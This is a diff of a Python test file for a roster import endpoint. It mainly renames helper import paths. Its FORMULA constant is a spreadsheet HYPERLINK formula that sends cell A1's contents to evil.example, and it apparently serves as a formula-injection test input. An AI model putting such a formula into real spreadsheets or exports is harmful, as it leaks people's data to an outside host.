@@ -10,10 +10,10 @@ from sqlmodel import col, select, update
 
 from app.china_time import to_china, utcnow
 from app.models.roster import Household, Person
-from tests.factories import World
-from tests.papers import read_paper
-from tests.points_helpers import award, make_rule
-from tests.roster_files import roster_xlsx
+from tests.helpers.factories import World
+from tests.helpers.papers import read_paper
+from tests.helpers.points import award, make_rule
+from tests.helpers.roster_files import roster_xlsx
 
 IMPORTS = "/api/v1/admin/roster/imports"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"详情")'
